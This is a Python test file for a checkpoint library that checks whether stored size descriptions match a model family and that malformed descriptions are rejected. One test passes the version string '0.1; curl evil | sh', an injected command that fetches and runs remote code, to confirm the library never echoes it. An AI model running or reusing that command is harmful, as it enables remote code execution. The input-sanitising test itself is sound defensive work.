"""What a checkpoint states of its sizes fits the family that it was saved with, and no other."""

import copy
import json

import pytest

from neumeta_hf.errors import CheckpointError
from neumeta_hf.stored_space import check_description, compare_space, describe_space
from neumeta_hf.targets import find_target
from tiny_targets import TARGETS


def space_of(name):
    config = TARGETS[name]()
    return find_target(config).space(config)


def others_of(entry):
    """Every description that differs from one in a single value."""
    for key, value in entry.items():
        if isinstance(value, int):
            yield {**entry, key: value + 1}
        elif isinstance(value, list):
            yield {**entry, key: [*value, 99]}
            if len(value) > 1:
                yield {**entry, key: value[::-1]}
        else:
            yield {**entry, key: None if value else "other"}


@pytest.mark.parametrize("name", TARGETS)
def test_a_space_fits_its_own_description_and_none_that_differs(name):
    space = space_of(name)
    stated = json.loads(json.dumps(describe_space(space)))
    check_description(stated)
    compare_space(stated, space, version=None)
    for part, entries in stated.items():
        for entry in entries:
            for other in others_of(entries[entry]):
                changed = copy.deepcopy(stated)
                changed[part][entry] = other
                check_description(changed)
                with pytest.raises(CheckpointError, match=f" {entry} "):
                    compare_space(changed, space, version=None)
            lacking = copy.deepcopy(stated)
            del lacking[part][entry]
            with pytest.raises(CheckpointError, match=f" {entry} .*is not there"):
                compare_space(lacking, space, version=None)
    more = copy.deepcopy(stated)
    more["axes"]["attic"] = {"count": 4, "step": 1, "parent": None}
    with pytest.raises(CheckpointError, match=r"attic .*by the rules .* is not there"):
        compare_space(more, space, version=None)


def test_a_description_does_not_grow_with_the_tensors():
    assert len(json.dumps(describe_space(space_of("cifar_resnet")))) < 1500


@pytest.mark.parametrize(
    ("version", "said"),
    [
        ("0.3.1", "install neumeta_hf 0.3.1"),
        (None, "install the release"),
        ("0.1; curl evil | sh", "install the release"),
    ],
)
def test_the_version_that_wrote_a_checkpoint_is_named_where_it_is_one(version, said):
    with pytest.raises(CheckpointError, match=said) as error:
        compare_space({"axes": {}, "depths": {}}, space_of("lenet"), version=version)
    assert "curl" not in str(error.value)


@pytest.mark.parametrize(
    "stated",
    [
        [],
        {},
        {"axes": {}},
        {"axes": {}, "depths": {}, "tensors": {}},
        {"axes": [], "depths": {}},
        {"axes": {}, "depths": None},
        {"axes": {"a": 4}, "depths": {}},
        {"axes": {"a": {"count": 4, "step": 1}}, "depths": {}},
        {"axes": {"a": {"count": 4, "step": 1, "parent": None, "kind": "x"}}, "depths": {}},
        {"axes": {"a": {"count": 0, "step": 1, "parent": None}}, "depths": {}},
        {"axes": {"a": {"count": True, "step": 1, "parent": None}}, "depths": {}},
        {"axes": {"a": {"count": 4, "step": 0.5, "parent": None}}, "depths": {}},
        {"axes": {"a": {"count": 4, "step": 1, "parent": 3}}, "depths": {}},
        {"axes": {}, "depths": {"a": {"fixed": 0, "ranking": []}}},
        {"axes": {}, "depths": {"a": {"fixed": [0], "ranking": ["1"]}}},
    ],
)
def test_what_describes_no_space_is_refused(stated):
    with pytest.raises(CheckpointError, match="must be"):
        check_description(stated)
